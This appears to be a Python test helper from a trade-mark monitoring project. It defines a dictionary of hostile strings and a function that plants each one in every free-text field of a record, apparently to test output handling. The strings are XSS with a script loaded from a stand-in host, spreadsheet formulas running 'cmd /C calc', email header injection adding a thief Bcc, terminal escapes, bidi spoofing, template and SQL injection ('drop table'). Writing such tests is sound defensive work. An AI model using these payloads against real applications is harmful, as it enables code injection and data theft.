"""Texts that a register's page may hold and that somebody's program might obey; and how to plant them.

    for name, text in HOSTILE.items():
        poisoned = plant(record, text)     # every text of the record that may hold free words

A record is planted through its own model, so that a field added tomorrow is planted too.
"""

from __future__ import annotations

import copy
import functools
from collections.abc import Iterator
from typing import Any

from pydantic import ValidationError

from tmwatch.model import TradeMark

MARKER = "evil.example"

HOSTILE = {
    "html": f'<img src=x onerror=alert(1)><script src="//{MARKER}/x"></script><b>x</b></td></table><!--',
    "attribute": f'" onmouseover="alert(1)" style="position:fixed" href=\'https://{MARKER}\' \'',
    "link": f"javascript:alert(1)//https://{MARKER}/",
    "formula": f'=HYPERLINK("https://{MARKER}","click")',
    "formula by command": "-2+3+cmd|' /C calc'!A0",
    "formula behind a blank": "  @SUM(1+1)*cmd|' /C calc'!A0",
    "formula, full width": f"＝HYPERLINK({MARKER})",
    "formula behind a tab": '\t=1+1";"',
    "cells": 'a,b;c\t"d"\r\n=1+1,"x\r\n',
    "header": f"x\r\nBcc: thief@{MARKER}\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "header by odd line ends": f"x\u2028Bcc: thief@{MARKER}\x85X-Evil: 1\x0bX-Evil: 2\x0c",
    "encoded word": "=?utf-8?q?=0D=0ABcc=3A_x?= =?utf-8?b?PHNjcmlwdD4=?=",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\\x1bc\a\b\b",
    "terminal, eight bits": "\x9b31mred\x9d0;title\x9c\x90q\x9c\x84\x8d",
    "bidi": "\u202egnp.exe\u202c \u2066left\u2069 \u200b\u200d\ufeff\u00ad",
    "log line": '"}\n{"level": "critical", "event": "forged"}\n',
    "template": "{{ 7*7 }}{% for a in b %}${7*7}#{7*7}<%= 7*7 %>{0.__class__}%(x)s%s%n",
    "rich markup": "[red]x[/red][link=https://evil.example]y[/link][/] :skull: \\[x]",
    "sql": "'); drop table mark; --\" or 1=1",
    "half a character": "cut \ud83d here \udc00",
    "long": "W" * 5_000,
}

# What may stand in a field of these names is fixed by the model or carries a date: no free words there.
_FIXED = frozenset({"office", "st13", "covers", "provenance"})


def plant(record: TradeMark, text: str) -> TradeMark:
    """The same record with `text` in every place that takes free words.

    Half characters are planted as the readers hand them out: as U+FFFD (`text.mended`).
    """
    data = record.model_dump(mode="json", exclude={"provenance"})
    data["covers"] = sorted(record.covers)
    for path in [path for path, value in _texts(data) if value and path[0] not in _FIXED]:
        if not _takes(_shape(path), path, record, text):
            continue
        _set(data, path, text)
    return TradeMark.model_validate(data)


def plant_count(record: TradeMark, text: str) -> int:
    """In how many places `plant` puts it."""
    data = plant(record, text).model_dump(mode="json", exclude={"provenance"})
    return sum(value == text for _, value in _texts(data))


_known: dict[tuple[str, ...], bool] = {}


def _shape(path: tuple[Any, ...]) -> tuple[str, ...]:
    """The path without its places in lists: two owners are planted alike."""
    return tuple("#" if isinstance(step, int) else step for step in path)


def _takes(shape: tuple[str, ...], path: tuple[Any, ...], record: TradeMark, text: str) -> bool:
    """Whether the model lets any text stand there: a phase or a date does not."""
    if shape not in _known:
        data = copy.deepcopy(record.model_dump(mode="json", exclude={"provenance"}))
        data["covers"] = sorted(record.covers)
        _set(data, path, "any words")
        try:
            TradeMark.model_validate(data)
            _known[shape] = True
        except ValidationError:
            _known[shape] = False
    return _known[shape]


def _texts(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], str]]:
    if isinstance(value, str):
        yield path, value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from _texts(item, (*path, key))
    elif isinstance(value, list):
        for place, item in enumerate(value):
            yield from _texts(item, (*path, place))


def _set(data: Any, path: tuple[Any, ...], text: str) -> None:
    functools.reduce(lambda inner, step: inner[step], path[:-1], data)[path[-1]] = text
